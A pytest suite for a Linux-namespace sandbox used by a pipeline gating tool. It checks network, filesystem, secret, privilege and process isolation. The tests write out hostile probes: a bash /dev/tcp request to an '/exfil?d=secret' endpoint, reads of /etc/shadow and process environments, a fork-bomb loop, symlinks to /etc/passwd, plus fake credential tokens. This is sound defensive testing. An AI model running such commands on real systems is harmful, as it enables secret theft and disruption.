"""The local backend, for real: Linux namespaces created with unshare on this machine.

Each test runs a small shell command inside the sandbox and checks from the
outside what it could and could not do.
"""

from __future__ import annotations

import http.server
import os
import signal
import socket
import threading
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import psutil
import pytest

from kfp_gates.components.common.policy import GatePolicy
from kfp_gates.components.isolation import _nsinit, gate, local
from kfp_gates.components.isolation._signals import StepCancelled
from kfp_gates.components.isolation.interface import Limits, StepOutcome, StepSpec
from kfp_gates.components.isolation.local import IsolationUnavailable, LocalNamespaceBackend, UnisolatedBackend

SECRETS = {
    "VAULT_TOKEN": "hvs.CAESIJlsecretvaluethatmustnotleak0123",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "KUBECONFIG": "/root/.kube/config",
    "GITHUB_TOKEN": "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
}


class Run:
    def __init__(self, outcome: StepOutcome, out: str, err: str) -> None:
        self.outcome, self.out, self.err = outcome, out, err

    def __repr__(self) -> str:
        return f"Run({self.outcome}, out={self.out[-800:]!r}, err={self.err[-800:]!r})"


def sandbox(tmp_path: Path, script: str, backend_cls=LocalNamespaceBackend, **kw) -> Run:
    """Run ``sh -c script`` in the backend; stdout/stderr captured to files."""
    out_f, err_f = tmp_path / "stdout.txt", tmp_path / "stderr.txt"
    with open(out_f, "wb") as out, open(err_f, "wb") as err:
        backend = backend_cls(stdout=out.fileno(), stderr=err.fileno(), **kw.pop("backend_kw", {}))
        env = kw.pop("env", None) or gate.build_env([])
        step = StepSpec(argv=("sh", "-c", script), env=env, timeout=kw.pop("timeout", 30), **kw)
        outcome = backend.run(step)
    return Run(outcome, out_f.read_text(errors="replace"), err_f.read_text(errors="replace"))


@pytest.fixture
def http_server() -> Iterator[tuple[int, list[str]]]:
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"reached")

        def log_message(self, *a) -> None:
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        yield srv.server_address[1], hits
    finally:
        srv.shutdown()
        srv.server_close()


# bash's /dev/tcp: no curl needed. Sends a GET when the connection opens.
PROBE = (
    "bash -c 'if {{ exec 3<>/dev/tcp/127.0.0.1/{port}; }} 2>/dev/null; then "
    'printf "GET /exfil?d=secret HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3 >/dev/null; echo REACHED; '
    "else echo BLOCKED; fi'"
)


def test_loopback_server_reachable_outside_is_unreachable_inside(tmp_path: Path, http_server) -> None:
    port, hits = http_server
    assert urllib.request.urlopen(f"http://127.0.0.1:{port}/outside", timeout=5).read() == b"reached"
    r = sandbox(tmp_path, PROBE.format(port=port))
    assert r.outcome.exit_code == 0, r
    assert "BLOCKED" in r.out and "REACHED" not in r.out, r
    assert hits == ["/outside"]  # nothing arrived from inside
    # Control: the same probe, unisolated, does reach it (so the probe itself works).
    r = sandbox(tmp_path, PROBE.format(port=port), backend_cls=UnisolatedBackend)
    assert "REACHED" in r.out, r
    assert hits == ["/outside", "/exfil?d=secret"]


def test_only_loopback_exists_and_outside_addresses_are_unreachable(tmp_path: Path) -> None:
    r = sandbox(
        tmp_path,
        "ls /sys/class/net; cat /proc/net/dev | tail -n +3 | cut -d: -f1; "
        "bash -c 'exec 3<>/dev/tcp/1.1.1.1/80' 2>/dev/null && echo REACHED_IP; "
        "python3 -c 'import socket; s=socket.socket(); s.settimeout(3); s.connect((\"8.8.8.8\", 53))' "
        "2>&1 | tail -1",
    )
    assert "REACHED_IP" not in r.out, r
    assert "Network is unreachable" in r.out, r
    interfaces = r.out.split("Traceback")[0]
    assert "lo" in interfaces and "eth" not in interfaces.split("\n", 1)[-1], r


def test_name_resolution_fails_inside(tmp_path: Path) -> None:
    r = sandbox(tmp_path, "getent hosts pypi.org; echo rc=$?; getent hosts localhost; echo rc2=$?")
    assert "rc=2" in r.out or "rc=1" in r.out, r
    assert "pypi.org" not in r.out.split("rc=")[0], r


def test_writes_outside_the_output_dir_do_not_persist(tmp_path: Path) -> None:
    out = tmp_path / "out"
    victim = tmp_path / "victim.txt"
    repo_file = Path(__file__).with_name("sandbox-leak.txt")
    r = sandbox(
        tmp_path,
        f"echo model > {out}/model.bin; "
        f"echo x > {victim}; echo tmp_rc=$?; "  # /tmp is private: succeeds in a tmpfs, vanishes after
        f"echo x > {repo_file}; echo ro_rc=$?; "
        "echo x > /etc/kfpg-leak; echo etc_rc=$?; "
        "touch /root/kfpg-leak; echo root_rc=$?",
        output=out,
    )
    assert r.outcome.exit_code == 0, r
    assert (out / "model.bin").read_text() == "model\n"
    assert not victim.exists() and not repo_file.exists() and not Path("/etc/kfpg-leak").exists()
    assert not Path("/root/kfpg-leak").exists()
    assert "ro_rc=2" in r.out and "etc_rc=2" in r.out, r
    assert "Read-only file system" in r.err, r
    assert (out / "model.bin").stat().st_uid == os.getuid()  # handed back to the caller


def test_inputs_are_readable_but_read_only(tmp_path: Path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "train.csv").write_text("a,b\n1,2\n")
    r = sandbox(
        tmp_path,
        f"cat {data}/train.csv; echo poison >> {data}/train.csv; echo rc=$?; rm {data}/train.csv; echo rm=$?",
        inputs=(data,),
    )
    assert "a,b" in r.out and "rc=2" in r.out and "rm=1" in r.out, r
    assert (data / "train.csv").read_text() == "a,b\n1,2\n"


def test_secrets_in_the_callers_environment_are_absent_inside(tmp_path: Path, monkeypatch) -> None:
    for k, v in SECRETS.items():
        monkeypatch.setenv(k, v)
    r = sandbox(tmp_path, "env; cat /proc/1/environ | tr '\\0' '\\n'; ls /proc | grep -c '^[0-9]'")
    for k, v in SECRETS.items():
        assert k not in r.out and v not in r.out, k
    procs = int(r.out.strip().splitlines()[-1])
    assert procs <= 4  # its own PID namespace: only the step's processes are visible
    assert str(os.getpid()) not in r.out.split()


def test_credential_locations_and_host_sockets_are_hidden(tmp_path: Path) -> None:
    r = sandbox(tmp_path, "ls -A /root /run /home | wc -l; cat /etc/shadow >/dev/null 2>&1; echo shadow=$?")
    assert r.out.splitlines()[0].strip() == str(len(["/root:", "", "/run:", "", "/home:"])), r
    assert "shadow=1" in r.out, r  # root-owned 0640 file: the step is not root


def test_no_capabilities_and_no_new_privileges(tmp_path: Path) -> None:
    r = sandbox(tmp_path, "grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs)' /proc/self/status; id -u")
    lines = dict(line.split(":\t") for line in r.out.strip().splitlines()[:-1])
    assert all(lines[k].strip() == "0000000000000000" for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"))
    assert lines["NoNewPrivs"].strip() == "1"
    if os.geteuid() == 0:
        assert r.out.strip().splitlines()[-1] == "65534"  # root launcher: the step runs as nobody


def test_exit_status_and_signals_are_propagated(tmp_path: Path) -> None:
    assert sandbox(tmp_path, "exit 7").outcome.exit_code == 7
    assert sandbox(tmp_path, "true").outcome.succeeded
    killed = sandbox(tmp_path, "sh -c 'kill -SEGV $$'; exit $?")
    assert killed.outcome.exit_code == 128 + signal.SIGSEGV, killed


def _processes_with(marker: str) -> list[psutil.Process]:
    found = []
    for p in psutil.process_iter(["cmdline"]):
        if marker in " ".join(p.info["cmdline"] or []):
            found.append(p)
    return found


def test_timeout_kills_the_child_and_all_its_children(tmp_path: Path) -> None:
    marker = f"{int(time.time() * 1000) % 100000 + 1000}.25"
    t0 = time.monotonic()
    r = sandbox(
        tmp_path,
        f"sleep {marker} & (setsid sleep {marker} &) ; sh -c 'sleep {marker}' & sleep {marker}",
        timeout=1.5,
    )
    elapsed = time.monotonic() - t0
    assert r.outcome.timed_out and r.outcome.exit_code is None, r
    assert elapsed < 10
    time.sleep(0.2)
    assert _processes_with(marker) == []


def test_rlimits_apply(tmp_path: Path) -> None:
    out = tmp_path / "out"
    r = sandbox(
        tmp_path,
        f"head -c 3000000 /dev/zero > {out}/big; echo fsize=$?; "
        "python3 -c 'bytearray(400 * 1024 * 1024)' 2>/dev/null; echo mem=$?",
        output=out,
        limits=Limits(file_size=1 << 20, memory=256 << 20),
    )
    assert "fsize=0" not in r.out and "mem=1" in r.out, r
    assert (out / "big").stat().st_size <= 1 << 20


def test_setup_failure_refuses_and_never_runs_the_step(tmp_path: Path) -> None:
    marker = tmp_path / "out"
    with pytest.raises(IsolationUnavailable, match="set-up failed"):
        sandbox(tmp_path, f"echo ran > {marker}/ran", output=marker, workdir="/does/not/exist")
    assert not (marker / "ran").exists()


def test_no_namespaces_means_no_run(tmp_path: Path, monkeypatch) -> None:
    """unshare(2) refused (fast path): nothing runs, and the error says how to get isolation."""

    def refuse(*args: object) -> None:
        raise _nsinit.SetupError("cannot create namespaces (unshare): Operation not permitted (errno EPERM)")

    monkeypatch.setattr(_nsinit, "enter", refuse)
    # The fast path is only taken in a single-threaded launcher; threads left by earlier tests in
    # the same session (HTTP servers, client pools) would route this test to the script path.
    monkeypatch.setattr(local.threading, "active_count", lambda: 1)
    out = tmp_path / "out"
    with pytest.raises(IsolationUnavailable, match="cannot create namespaces") as exc:
        sandbox(tmp_path, f"echo ran > {out}/ran", output=out)
    assert "isolation: none" in exc.value.diagnostics() and exc.value.exit_code == 3
    assert not (out / "ran").exists()


def test_no_namespaces_means_no_run_on_the_script_path(tmp_path: Path, monkeypatch) -> None:
    fake = tmp_path / "unshare"
    fake.write_text("#!/bin/sh\necho 'unshare: unshare failed: Operation not permitted' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(local, "UNSHARE", str(fake))
    out = tmp_path / "out"
    with pytest.raises(IsolationUnavailable, match="cannot create Linux namespaces") as exc:
        sandbox(tmp_path, f"echo ran > {out}/ran", output=out, backend_kw={"fast": False})
    assert "isolation: none" in exc.value.diagnostics()
    assert not (out / "ran").exists()


def test_missing_util_linux_refuses(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(local, "UNSHARE", str(tmp_path / "missing"))
    monkeypatch.setattr(local.shutil, "which", lambda name: None)
    with pytest.raises(IsolationUnavailable, match="not installed"):
        sandbox(tmp_path, "true")


def test_script_path_isolates_the_same(tmp_path: Path, http_server) -> None:
    """The thread-safe path (unshare binary + set-up script) gives the same guarantees."""
    port, hits = http_server
    out = tmp_path / "out"
    r = sandbox(
        tmp_path,
        PROBE.format(port=port) + f"; echo ok > {out}/f; echo x > /etc/kfpg-leak; echo rc=$?; "
        "grep CapEff /proc/self/status; ls /proc | grep -c '^[0-9]'",
        output=out,
        backend_kw={"fast": False},
    )
    assert "BLOCKED" in r.out and hits == [] and "rc=2" in r.out, r
    assert "0000000000000000" in r.out and int(r.out.split()[-1]) <= 4, r
    assert (out / "f").read_text() == "ok\n"


def test_a_launcher_with_threads_uses_the_script_path(tmp_path: Path, monkeypatch) -> None:
    def forbidden(cfg: object) -> None:
        raise AssertionError("preexec set-up used while other threads run")

    monkeypatch.setattr(_nsinit, "run_in_child", forbidden)
    stop = threading.Event()
    worker = threading.Thread(target=stop.wait, daemon=True)
    worker.start()
    try:
        assert sandbox(tmp_path, "exit 5").outcome.exit_code == 5
    finally:
        stop.set()
        worker.join()


def test_unprivileged_path_uses_a_user_namespace(tmp_path: Path, monkeypatch, http_server) -> None:
    """The non-root code path (user namespace, caller mapped to root inside), exercised as root."""
    port, hits = http_server
    monkeypatch.setattr(local.os, "geteuid", lambda: 1000)
    out = tmp_path / "out"
    r = sandbox(
        tmp_path,
        PROBE.format(port=port) + f"; echo ok > {out}/f; echo x > /etc/kfpg-leak; grep CapEff /proc/self/status",
        output=out,
    )
    assert "BLOCKED" in r.out and hits == [], r
    assert (out / "f").read_text() == "ok\n"
    assert not Path("/etc/kfpg-leak").exists()
    assert "0000000000000000" in r.out, r


def test_isolation_none_runs_unisolated_with_a_warning(tmp_path: Path) -> None:
    policy = GatePolicy.parse("tier: fast-track\ngates:\n  isolation:\n    isolation: none\n")
    step = StepSpec(argv=("true",), env=gate.build_env([]), timeout=10)
    result, outcome = gate.launch(policy, step)
    assert outcome.isolated is False and result.decision.value == "warn"
    assert result.findings[0].id == gate.UNISOLATED


def test_launch_through_the_gate_passes_a_clean_step_without_network_calls(tmp_path: Path) -> None:
    from tests.support.netguard import no_network

    step = StepSpec(argv=("true",), env=gate.build_env([]), timeout=10)
    with no_network() as attempts:
        result, outcome = gate.launch(GatePolicy.default("critical"), replace(step))
    assert attempts == []
    assert result.decision.value == "pass" and outcome.isolated
    assert "net" in result.metadata["isolation"]["namespaces"]


def test_host_unix_sockets_are_unreachable(tmp_path: Path) -> None:
    """Unix sockets bypass network namespaces; /run is hidden and abstract sockets are per namespace."""
    path = Path(f"/run/kfpg-test-{os.getpid()}.sock")
    abstract = f"kfpg-test-{os.getpid()}"
    servers = []
    for addr in (str(path), "\0" + abstract):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(addr)
        s.listen(1)
        servers.append(s)
    try:
        probe = (
            "python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1])' {} "
            "2>/dev/null && echo REACHED || echo BLOCKED"
        )
        script = (
            probe.format(str(path))
            + "; "
            + (
                "python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0" + abstract + "\")' "
                "2>/dev/null && echo REACHED || echo BLOCKED"
            )
        )
        r = sandbox(tmp_path, script)
        assert r.out.split() == ["BLOCKED", "BLOCKED"], r
        control = sandbox(tmp_path, script, backend_cls=UnisolatedBackend)
        assert control.out.split() == ["REACHED", "REACHED"], control
    finally:
        for s in servers:
            s.close()
        path.unlink(missing_ok=True)


def test_process_and_cpu_time_limits(tmp_path: Path) -> None:
    fork_bomb = (
        "python3 -c 'import os, time\nn = 0\nfor _ in range(40):\n"
        "    try:\n        pid = os.fork()\n    except OSError:\n        break\n"
        '    if pid == 0:\n        time.sleep(2)\n        os._exit(0)\n    n += 1\nprint("started", n)\''
    )
    forks = sandbox(tmp_path, fork_bomb, limits=Limits(processes=16), timeout=20)
    started = int(forks.out.split()[-1])
    assert 0 < started < 16, forks
    t0 = time.monotonic()
    spin = sandbox(tmp_path, "while :; do :; done", limits=Limits(cpu_seconds=1), timeout=30)
    assert spin.outcome.exit_code in (128 + signal.SIGXCPU, 128 + signal.SIGKILL), spin
    assert not spin.outcome.timed_out and time.monotonic() - t0 < 25


def _marker() -> str:
    return f"{int(time.time() * 1000) % 100000 + 2000}.75"


def test_sigterm_to_the_launcher_kills_the_step(tmp_path: Path) -> None:
    marker = _marker()
    timer = threading.Timer(1.0, lambda: os.kill(os.getpid(), signal.SIGTERM))
    timer.start()
    with pytest.raises(StepCancelled, match="SIGTERM"):
        sandbox(tmp_path, f"sleep {marker} & sleep {marker}", timeout=60)
    timer.join()
    time.sleep(0.2)
    assert _processes_with(marker) == []


@pytest.mark.parametrize("fast", [True, False], ids=["fast-path", "script-path"])
def test_a_killed_launcher_takes_the_step_with_it(tmp_path: Path, fast: bool) -> None:
    import subprocess
    import sys

    marker = _marker()
    code = (
        "from kfp_gates.components.isolation.local import LocalNamespaceBackend\n"
        "from kfp_gates.components.isolation.interface import StepSpec\n"
        f"LocalNamespaceBackend(fast={fast}).run(StepSpec(argv=('sh', '-c', 'sleep {marker} & sleep {marker}'),"
        " env={'PATH': '/usr/bin:/bin'}, timeout=120))\n"
    )
    launcher = subprocess.Popen([sys.executable, "-c", code])
    deadline = time.monotonic() + 20
    while not _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _processes_with(marker), "the step did not start"
    launcher.kill()  # SIGKILL: no handler, no cleanup code runs in the launcher
    launcher.wait()
    deadline = time.monotonic() + 10
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _processes_with(marker) == []


def test_readability_check_for_a_root_launcher(tmp_path: Path) -> None:
    private = tmp_path / "private"
    private.mkdir(mode=0o700)
    data = private / "data.csv"
    data.write_text("x\n")
    data.chmod(0o644)
    assert "not searchable by others" in (local._closed_to_others(data, masked=()) or "")
    # Under /tmp the parents are recreated open inside the sandbox: only the file's own mode counts.
    assert local._closed_to_others(data, masked=("/tmp",)) is None
    data.chmod(0o600)
    assert local._closed_to_others(data, masked=("/tmp",)) == "not readable by others"


@pytest.mark.skipif(os.geteuid() != 0, reason="only a root launcher runs the step as another uid")
def test_root_launcher_warns_about_inputs_the_step_cannot_read(tmp_path: Path, caplog) -> None:
    private = tmp_path / "private"
    private.mkdir(mode=0o700)  # fine: recreated open inside the sandbox's private /tmp
    (private / "ok.csv").write_text("ok\n")
    (private / "secret.csv").write_text("secret\n")
    (private / "secret.csv").chmod(0o600)
    with caplog.at_level("WARNING", logger="kfp_gates.components.isolation.local"):
        r = sandbox(
            tmp_path,
            f"cat {private}/ok.csv; cat {private}/secret.csv; echo rc=$?",
            inputs=(private / "ok.csv", private / "secret.csv"),
        )
    assert r.out.splitlines() == ["ok", "rc=1"], r  # as promised: nobody cannot read a 0600 file
    assert "secret.csv: not readable by others" in caplog.text
    assert "ok.csv" not in caplog.text


def _unix_server(path: str) -> socket.socket:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(path)
    s.listen(4)
    if not path.startswith("\0"):
        os.chmod(path, 0o777)  # a root launcher's step runs as nobody: the file mode must not be what stops it
    return s


CONNECT = (
    "python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); "
    's.connect(sys.argv[1].replace("@", "\\0", 1))\' {} 2>/dev/null && echo REACHED || echo BLOCKED'
)


@pytest.mark.parametrize("fast", [True, False])
def test_unix_sockets_in_inputs_and_the_workdir_are_unreachable(tmp_path: Path, fast: bool) -> None:
    """Read-only binds do not stop connect(); the seccomp filter refusing socket(AF_UNIX) does."""
    inputs, work = tmp_path / "in", tmp_path / "work"
    inputs.mkdir()
    work.mkdir()
    abstract = f"@kfpg-abstract-{os.getpid()}-{fast}"
    servers = [_unix_server(str(inputs / "srv.sock")), _unix_server(str(work / "srv.sock")), _unix_server(
        "\0" + abstract[1:]
    )]  # fmt: skip
    script = "; ".join(CONNECT.format(p) for p in (inputs / "srv.sock", "srv.sock", abstract))
    step_kw = {"inputs": (inputs, work), "workdir": str(work)}
    try:
        r = sandbox(tmp_path, script, backend_kw={"fast": fast}, **step_kw)
        assert r.out.split() == ["BLOCKED", "BLOCKED", "BLOCKED"], r
        assert r.outcome.details["unix_sockets"].startswith("refused"), r
        # Protection off: the pathname sockets are reachable through the read-only binds, so
        # the filter is what stops them; the abstract one stays out of reach (own network namespace).
        off = sandbox(tmp_path, script, backend_kw={"fast": fast, "allow_unix_sockets": True}, **step_kw)
        assert off.out.split() == ["REACHED", "REACHED", "BLOCKED"], off
    finally:
        for s in servers:
            s.close()


def test_socketpair_and_inet_sockets_still_work_inside(tmp_path: Path) -> None:
    r = sandbox(
        tmp_path,
        'python3 -c \'import socket; a, b = socket.socketpair(); a.send(b"ok"); print(b.recv(2).decode()); '
        's = socket.socket(); s.bind(("127.0.0.1", 0)); print("inet")\'',
    )
    assert r.out.split() == ["ok", "inet"], r


def test_links_and_special_files_in_outputs_are_refused_not_handed_back(tmp_path: Path) -> None:
    out = tmp_path / "out"
    (tmp_path / "secret.txt").write_text("host secret\n")
    script = (
        "cd $OUT && echo model > model.bin && mkdir sub && echo w > sub/weights.bin && "
        "ln -s /etc/passwd passwd && ln -s ../secret.txt sub/up && ln -s sub dirlink && mkfifo pipe"
    )
    r = sandbox(tmp_path, script, output=out, env={**gate.build_env([]), "OUT": str(out)})
    assert r.outcome.exit_code == 0, r
    assert (out / "model.bin").read_text() == "model\n" and (out / "sub" / "weights.bin").is_file()
    for name in ("passwd", "sub/up", "dirlink", "pipe"):
        assert not os.path.lexists(out / name), name
    refused = sorted(e.split(":", 1)[0] for e in r.outcome.refused_outputs)
    assert refused == ["dirlink", "passwd", "pipe", "sub/up"], r.outcome
    assert any("'/etc/passwd'" in e for e in r.outcome.refused_outputs)
    result = gate.result_for(GatePolicy.default(), StepSpec(argv=("sh",)), r.outcome, gate.Clock())
    assert result.decision.value == "fail"
    assert sorted(f.location.path for f in result.findings if f.id == gate.OUTPUT_REFUSED) == refused


def test_a_blocking_secret_env_is_refused_before_the_step_starts(tmp_path: Path) -> None:
    out = tmp_path / "out"
    env = {**gate.build_env([]), "VAULT_TOKEN": SECRETS["VAULT_TOKEN"]}
    step = StepSpec(argv=("sh", "-c", f'echo "$VAULT_TOKEN" > {out}/leak'), output=out, env=env, timeout=30)
    result, outcome = gate.launch(GatePolicy.default("critical"), step, explicit_env=["VAULT_TOKEN"])
    assert not outcome.ran and result.decision.value == "fail", result
    assert {f.id for f in result.findings} == {gate.SECRET_ENV, gate.NOT_RUN}
    assert not (out / "leak").exists()
    # Where the same request only warns, the step runs (and so the check above is not vacuous).
    result, outcome = gate.launch(GatePolicy.default("standard"), step, explicit_env=["VAULT_TOKEN"])
    assert outcome.ran and outcome.exit_code == 0 and result.decision.value == "warn", result
    assert (out / "leak").read_text().strip() == SECRETS["VAULT_TOKEN"]


def test_the_user_namespace_path_blocks_unix_sockets_and_refuses_output_links(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(local.os, "geteuid", lambda: 1000)
    work, out = tmp_path / "work", tmp_path / "out"
    work.mkdir()
    server = _unix_server(str(work / "srv.sock"))
    try:
        script = CONNECT.format(work / "srv.sock") + f"; ln -s /etc/passwd {out}/passwd; echo m > {out}/model"
        r = sandbox(tmp_path, script, inputs=(work,), output=out)
    finally:
        server.close()
    assert r.out.split() == ["BLOCKED"], r
    assert (out / "model").read_text() == "m\n" and not os.path.lexists(out / "passwd")
    assert [e.split(":")[0] for e in r.outcome.refused_outputs] == ["passwd"]
